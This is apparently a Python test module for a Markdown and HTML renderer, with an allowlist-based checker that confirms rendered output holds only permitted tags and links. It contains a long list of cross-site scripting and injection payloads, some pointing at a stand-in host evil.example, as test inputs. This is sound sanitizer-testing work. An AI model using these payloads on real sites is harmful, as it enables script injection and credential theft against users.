"""What an attacker might type, and what HTML may come of it.

`TEXTS` are attacks in Markdown and HTML, `drawings()` and `marks()` put attacks into every field of
a drawing and of a citation mark, and `assert_harmless` reads HTML as a browser would and refuses
everything that is not on its lists.
"""

import re
from collections.abc import Iterator
from html.parser import HTMLParser

TEXTS = [
    # Elements that run something.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\t\n>",
    "<<script>alert(1)//<</script>",
    "<script/x>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    '<svg><script href="data:text/javascript,alert(1)"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">press</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><img title="</style><img src onerror=alert(1)>">',
    '<math href="javascript:alert(1)">press</math>',
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)' ",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    # Elements that take the page over.
    '<form action="https://evil.example"><input name=password></form>',
    '<button formaction="javascript:alert(1)">press</button>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{background:url('https://evil.example')}</style>",
    '<div style="position:fixed;inset:0;background:url(javascript:alert(1))">x</div>',
    '<p id="comments" class="note" role="alert">x</p>',
    '<figure data-drawing="0"></figure>',
    '&lt;figure data-drawing="0"&gt;&lt;/figure&gt;',
    # Nested and unbalanced.
    "</p></div></section></main></body></html><script>alert(1)</script>",
    "<div><div><div><p>never closed",
    "<b><i><u></b></i></u></b>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE html>",
    "<table><tr><td><a href=javascript:alert(1)>x</table>",
    "<a href=\"https://x.example\" onclick='alert(1)'>x</a>",
    # Links.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\nscript:alert(1)>)",
    "[x](java&Tab;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;&#97;&#118;&#97;&#115;cript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( \u00a0javascript:alert(1))",
    "[x](java\x00script:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2Zy8+)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://x.example/1)",
    "[x](feed:javascript:alert(1))",
    "[x](//evil.example/)",
    "[x](/\\evil.example/)",
    "[x](/\t/evil.example/)",
    "[x](\\\\evil.example)",
    "[x](https://www.state.gov@evil.example/)",
    "[x](http://[::1)",
    "[x](https:evil.example)",
    '[x](https://a.example "title" onclick=alert(1) ")',
    "[x](https://a.example 'a\" onmouseover=\"alert(1)')",
    '[x](https://a.example/" onmouseover="alert(1))',
    '[x](https://a.example/ (a")><script>alert(1)</script>))',
    "[x](https://a.example/`onmouseover=alert(1)`)",
    '[a"onmouseover=alert(1)>](https://a.example)',
    "[x][y]\n\n[y]: javascript:alert(1)",
    '[x][y]\n\n[y]: https://a.example "\\"><script>alert(1)</script>"',
    "[x]\n\n[x]: <data:text/html,<script>alert(1)</script>>",
    "<javascript:alert(1)>",
    "<https://a.example/'onmouseover='alert(1)>",
    '<https://a.example/"><script>alert(1)</script>>',
    "<data:text/html,x>",
    "<a@b.example?subject=<script>>",
    "[[x](javascript:alert(1))](https://a.example)",
    # Pictures.
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](https://a.example/x.png)',
    "![<script>alert(1)</script>](https://a.example/x.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    # Code and fences.
    '```"><script>alert(1)</script>\nx\n```',
    "```<script>\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "    </pre><script>alert(1)</script>",
    "~~~bars\ntitle: </h3><script>alert(1)</script>",
    # Tables and headings.
    "|<script>|x|\n|:-:|-|\n|<img src=x onerror=alert(1)>|y|",
    "# <script>alert(1)</script> {onclick=alert(1)}",
    "<script>\n===",
    # Characters.
    "a\x00b<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\x1b[31m\x07\x08\x7f\x80\x9f",
    "\ud800 \udfff \ud83d",
    "\ufffe\uffff\ufeff",
    "\u202eexe.txt\u202c \u2066\u2067\u2068 never closed \u202d",
    "\u2028<script>\u2029alert(1)",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\x0b\x0c\x85\r<script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &#x3C;script&#x3E;",
    "&#0;&#xD800;&#x110000;&nonsense;&",
    # Very much of one thing.
    "[" * 10_000,
    "![" * 5_000,
    "](" * 5_000,
    "[a](" * 2_500,
    "[@a " * 2_500,
    "[@a[" * 2_500,
    "[@a\\[" * 2_000,
    ">" * 10_000,
    "> " * 5_000,
    "> - " * 2_500,
    "*" * 10_000,
    "*a_" * 3_333,
    "**a *b " * 1_400,
    "`" * 10_000,
    "<" * 10_000,
    "<a " * 3_333,
    "&" * 10_000,
    "\\" * 10_000,
    "- " * 5_000,
    "".join("  " * depth + "- a\n" for depth in range(90)),
    "|a" * 5_000 + "\n" + "|-" * 5_000,
    "|a|b|\n|-|-|\n" * 700,
    "[x]: /a\n" * 1_200,
    "```bars\n" + "a | 1\n" * 1_600,
    "a" * 60_000 + "<script>alert(1)</script>",
]

INSERTIONS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</text></svg><svg onload=alert(1)>",
    "</h3></figure></section>",
    "[x](javascript:alert(1))",
    "![x](https://a.example/x.png)",
    "{} {0} %s %(x)s {{ x }} {% x %}",
    "&quot; &lt; &#34;",
    "\u202e\x00\x1b\ud800",
    "9" * 400,
    "word " * 400,
]


def marks() -> Iterator[str]:
    """Return citation marks with an attack in every field."""
    for attack in INSERTIONS:
        for form in ("[@{0}]", "[@known, {0}]", "[@known: {0}]", "[@known, {0}: {0}]"):
            yield f"Text {form.replace('{0}', attack)} and [@known, p. 1: more]."


def drawings() -> Iterator[str]:
    """Return drawings of every kind with an attack in every field, and in all of them."""
    shapes = {
        "bars": ["March 2018", "60", "us"],
        "periods": ["1809", "1917", "In force", "force", "With an envoy"],
        "marks": ["2014-03-06", "First round", "United States"],
        "wordings": ['"interrupted"', "Historian, 2016", "break"],
    }
    for kind, fields in shapes.items():
        for attack in INSERTIONS:
            for at in range(len(fields)):
                row = [*fields[:at], attack, *fields[at + 1 :]]
                yield _drawing(kind, row)
            for header in ("title", "caption", "credit", "text", "unit"):
                yield _drawing(kind, fields, header, attack)
            yield _drawing(kind, [attack] * len(fields), "caption", attack)
            yield f"```{kind}\n{attack}\n```"


def _drawing(kind: str, row: list[str], header: str = "credit", value: str = "") -> str:
    lines = ["title: A drawing", f"{header}: {value}", " | ".join(row) + " [@known, p. 1: more]"]
    return "\n".join([f"```{kind}", *lines, "```"])


# ── What may come of it ─────────────────────────────────────────────────────────────────────

_TEXT_TAGS = {
    "a": {"href", "title", "rel", "class", "aria-label"},
    "b": {"class"},
    "blockquote": set(),
    "br": set(),
    "cite": set(),
    "code": set(),
    "div": {"class", "role"},
    "em": set(),
    "h3": {"class", "id"},
    "h4": set(),
    "h5": set(),
    "h6": set(),
    "hr": set(),
    "li": {"class"},
    "ol": {"class", "start"},
    "p": {"class", "id", "aria-hidden"},
    "pre": set(),
    "span": {"class"},
    "strong": set(),
    "table": set(),
    "tbody": set(),
    "td": {"class"},
    "th": {"class", "scope"},
    "thead": set(),
    "tr": set(),
    "ul": {"class"},
}
_DRAWING_TAGS = {
    "circle": {"class", "cx", "cy", "r"},
    "figcaption": set(),
    "figure": {"class"},
    "g": {"class"},
    "line": {"class", "x1", "x2", "y1", "y2"},
    "rect": {"class", "x", "y", "width", "height"},
    "svg": {"class", "width", "height", "role", "aria-labelledby", "aria-label"},
    "text": {"class", "x", "y", "text-anchor"},
    "tspan": {"x", "dy"},
}
BODY_TAGS = _TEXT_TAGS | _DRAWING_TAGS
PLAIN_TAGS = {"p": set(), "br": set()}
COMMENT_TAGS = {
    **{
        name: set() for name in ("blockquote", "br", "code", "em", "li", "p", "pre", "strong", "ul")
    },
    "a": {"href", "rel"},
    "ol": {"start"},
}

_VOID = {"br", "hr"}
_VALUES = {
    "class": re.compile(r"[a-z][a-z-]*(?: [a-z][a-z-]*)*"),
    "id": re.compile(r"(?:figure|preview)-[a-z0-9-]+"),
    "aria-hidden": re.compile(r"true"),
    "aria-labelledby": re.compile(r"[a-z0-9-]+ [a-z0-9-]+-text"),
    "role": re.compile(r"img|note"),
    "rel": re.compile(r"(?:ugc nofollow )?noopener"),
    "scope": re.compile(r"col"),
    "start": re.compile(r"[0-9]+"),
    "text-anchor": re.compile(r"start|middle|end"),
    "href": re.compile(r"https?://[^\s/@]+(?:[/?#]\S*)?|mailto:\S+@\S+|/(?!/)\S*|/|#\S*"),
}
_LENGTH = re.compile(r"[0-9]+(?:\.[0-9]+)?%?")
_LENGTHS = {"cx", "cy", "dy", "height", "r", "start", "width", "x", "x1", "x2", "y", "y1", "y2"}
_STRICT_TAG = re.compile(r'</?[a-z][a-z0-9]*(?: [a-z][a-z0-9-]*="[^"<>]*")*/?>')


class _Reading(HTMLParser):
    def __init__(self, allowed: dict[str, set[str]]) -> None:
        super().__init__(convert_charrefs=True)
        self.allowed = allowed
        self.open: list[str] = []
        self.deepest = 0
        self.targets: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.check(tag, attributes)
        if tag not in _VOID:
            self.open.append(tag)
            self.deepest = max(self.deepest, len(self.open))

    def handle_startendtag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.check(tag, attributes)

    def handle_endtag(self, tag: str) -> None:
        assert self.open, f"</{tag}> closes nothing"
        assert self.open.pop() == tag, f"</{tag}> closes something else"

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data[:80]}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl[:80]}")

    unknown_decl = handle_pi = handle_decl

    def check(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        assert tag in self.allowed, f"<{tag}> is not allowed"
        names = [name for name, _ in attributes]
        self.targets += [value or "" for name, value in attributes if name == "href"]
        assert len(names) == len(set(names)), f"<{tag}> has an attribute twice"
        for name, value in attributes:
            assert name in self.allowed[tag], f"<{tag} {name}> is not allowed"
            form = _LENGTH if name in _LENGTHS else _VALUES.get(name)
            assert form is None or form.fullmatch(value or ""), f"<{tag} {name}={value!r}>"


def assert_harmless(html: str, allowed: dict[str, set[str]] = BODY_TAGS) -> _Reading:
    """Fail unless the HTML holds only allowed tags, attributes and values, each tag closed.

    Says so by two independent readings: a parser's, and that without its well-formed tags no
    "<" is left. Returns the parser, which knows how ``deepest`` the nesting went.
    """
    html.encode()
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", html)
    return assert_allowed(html, allowed)


def assert_allowed(html: str, allowed: dict[str, set[str]]) -> _Reading:
    """The same, for HTML in which characters that mislead may stand."""
    reading = _Reading(allowed)
    reading.feed(html)
    reading.close()
    assert not reading.open, f"never closed: {reading.open}"
    assert "<" not in _STRICT_TAG.sub("", html), "something that is not a tag of ours"
    return reading
